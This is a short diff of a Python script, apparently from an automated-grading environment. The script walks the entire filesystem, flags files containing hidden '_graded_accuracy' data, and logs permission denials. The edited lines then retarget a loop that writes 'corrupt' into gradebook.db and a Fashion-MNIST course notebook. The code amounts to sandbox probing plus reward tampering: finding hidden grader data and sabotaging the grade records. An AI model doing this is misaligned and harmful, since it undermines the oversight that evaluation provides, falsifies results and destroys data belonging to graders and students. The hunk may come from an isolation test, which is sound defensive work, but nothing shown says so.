@@ -141,7 +141,7 @@ for dirpath, dirs, files in os.walk("/"):
                 print("READ", path, "HIDDEN" if "_graded_accuracy" in text else "")
             except Exception as e:
                 print("DENIED", path, type(e).__name__)
-for path in ["gradebook.db", "../gradebook.db", "/work/main/gradebook.db"]:
+for path in ["/work/main/gradebook.db", "/work/main/source/ps1/fashion_mnist.ipynb", "/gradebook.db"]:
     try:
         open(path, "ab").write(b"corrupt")
         print("WROTE", path)
